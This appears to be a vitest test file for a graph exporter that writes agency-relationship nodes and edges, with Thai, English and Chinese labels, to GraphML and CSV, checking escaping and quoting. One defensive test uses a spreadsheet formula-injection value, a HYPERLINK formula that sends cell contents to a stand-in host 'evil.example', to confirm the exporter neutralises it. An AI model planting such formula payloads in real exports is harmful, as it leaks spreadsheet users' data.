import { DOMParser, type Element as XmlElement } from '@xmldom/xmldom';
import { describe, expect, it } from 'vitest';
import type { EdgeData, NodeData } from './elements';
import { edgesToCsv, nodesToCsv, toGraphML } from './exporters';

const nodes: NodeData[] = [
  { id: 'agency:pmu-a', kind: 'AGENCY', side: 'TH', label: 'PMU-A', name_th: 'หน่วย "บพท."', name_en: 'PMU-A', name_zh: 'PMU-A', date: '' },
  {
    id: 'agency:crtdc',
    kind: 'AGENCY',
    side: 'CN',
    label: 'CRTDC',
    name_th: 'ศูนย์, จีน',
    name_en: 'China Rural <Tech> & Development',
    name_zh: 'x',
    date: '',
  },
];
const edges: EdgeData[] = [
  {
    id: 'agency:pmu-a|PROPOSED|agency:crtdc',
    source: 'agency:pmu-a',
    target: 'agency:crtdc',
    type: 'PROPOSED_AS_COORDINATOR_WITH',
    label: 'x',
    label_th: 'ประสาน',
    label_en: 'proposed as coordinator with',
    label_zh: '协调',
  },
];

describe('GraphML', () => {
  it('parses back to the same nodes, edges and attributes', () => {
    const doc = new DOMParser().parseFromString(toGraphML(nodes, edges), 'application/xml');
    const graph = doc.getElementsByTagName('graph')[0];
    expect(graph?.getAttribute('edgedefault')).toBe('directed');
    const parsedNodes = Array.from(doc.getElementsByTagName('node'));
    expect(parsedNodes.map((n) => n.getAttribute('id'))).toEqual(['agency:pmu-a', 'agency:crtdc']);
    const data = (el: XmlElement, key: string) =>
      Array.from(el.getElementsByTagName('data')).find((d) => d.getAttribute('key') === key)?.textContent;
    expect(data(parsedNodes[1] as XmlElement, 'n_name_en')).toBe('China Rural <Tech> & Development');
    expect(data(parsedNodes[0] as XmlElement, 'n_name_th')).toBe('หน่วย "บพท."');
    const edge = doc.getElementsByTagName('edge')[0] as XmlElement;
    expect([edge.getAttribute('source'), edge.getAttribute('target')]).toEqual(['agency:pmu-a', 'agency:crtdc']);
    expect(data(edge, 'e_type')).toBe('PROPOSED_AS_COORDINATOR_WITH');
    const keys = Array.from(doc.getElementsByTagName('key')).map((k) => `${k.getAttribute('for')}:${k.getAttribute('attr.name')}`);
    expect(keys).toContain('node:kind');
    expect(keys).toContain('edge:label_zh');
  });
});

describe('CSV', () => {
  it('writes a header and one row per node, quoting commas and quotes', () => {
    const lines = nodesToCsv(nodes).trimEnd().split('\r\n');
    expect(lines[0]).toBe('id,kind,side,name_th,name_en,name_zh,date');
    expect(lines[1]).toBe('agency:pmu-a,AGENCY,TH,"หน่วย ""บพท.""",PMU-A,PMU-A,');
    expect(lines[2]).toBe('agency:crtdc,AGENCY,CN,"ศูนย์, จีน",China Rural <Tech> & Development,x,');
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    const evil = {
      ...nodes[0]!,
      id: 'agency:x',
      name_en: '=HYPERLINK("https://evil.example/?"&A1,"open")',
      name_zh: '@SUM(1)',
      name_th: '+1',
      date: '-2',
    };
    const row = nodesToCsv([evil]).trimEnd().split('\r\n')[1];
    expect(row).toBe('agency:x,AGENCY,TH,\'+1,"\'=HYPERLINK(""https://evil.example/?""&A1,""open"")",\'@SUM(1),\'-2');
  });

  it('writes edges with their endpoints and labels', () => {
    const lines = edgesToCsv(edges).trimEnd().split('\r\n');
    expect(lines).toEqual([
      'id,source,target,type,label_th,label_en,label_zh',
      'agency:pmu-a|PROPOSED|agency:crtdc,agency:pmu-a,agency:crtdc,PROPOSED_AS_COORDINATOR_WITH,ประสาน,proposed as coordinator with,协调',
    ]);
  });
});
